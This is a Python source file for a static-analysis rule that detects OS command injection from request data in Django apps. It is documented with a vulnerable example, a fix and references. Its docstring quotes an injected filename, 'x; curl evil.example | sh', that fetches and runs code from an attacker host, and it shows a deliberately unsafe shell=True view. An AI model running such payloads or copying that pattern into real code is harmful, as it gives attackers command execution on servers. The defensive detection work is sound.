"""Commands put together from what a visitor sends.

## What it does
Reports command lines and programs that come from a request: text given to a shell (`subprocess` with `shell=True`,
`os.system`, `os.popen`), and the program that is started without one. The data is followed through functions and files.

## Why it matters
A shell reads `;`, `|`, `$( )` and line breaks as its own language. Whoever sends `x; curl evil.example | sh` as the
name of a file runs that on the server, with the rights of the application.

## Example
```python title="shop/views.py"
import subprocess

from django.http import HttpResponse


def archive(request):
    folder = request.GET["folder"]
    subprocess.run(f"tar czf backup.tgz {folder}", shell=True, check=True)
    return HttpResponse("done")
```

## Use instead
```python title="shop/views.py"
import subprocess

from django.http import HttpResponse

FOLDERS = {"orders", "invoices"}


def archive(request):
    folder = request.GET["folder"]
    if folder not in FOLDERS:
        return HttpResponse("No such folder", status=404)
    subprocess.run(["tar", "czf", "backup.tgz", "--", folder], check=True)
    return HttpResponse("done")
```

## Limits
A program that reads its arguments as commands (`ssh`, `find -exec`) is not known. What passes through code that can't
be seen is reported with less confidence. Data from queues, files and the command line stays quiet.

## References
- [Python: security considerations of subprocess](https://docs.python.org/3/library/subprocess.html#security-considerations)
- [OWASP: OS command injection](https://owasp.org/www-community/attacks/Command_Injection)
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
"""

from __future__ import annotations

from collections.abc import Iterator

from checks.rule import CRITICAL, File, Finding, Flow, Rule

rule = Rule(
    __name__,
    checklist="security.input-validation",
    cwe=78,
    severity=CRITICAL,
    message="`{text}` holds request data: {consequence}",
    advice="Give the program a list of arguments without a shell, and check the value against a list first",
)

_CONSEQUENCES = {
    "shell": "a visitor runs any command",
    "command": "a visitor chooses the program",
}


@rule.on_flow("shell", "command")
def check(flow: Flow, _file: File) -> Iterator[Finding]:
    """Request data in a command line, or as the program."""
    if flow.label == "request":
        yield rule.flow(flow, consequence=_CONSEQUENCES[flow.kind])
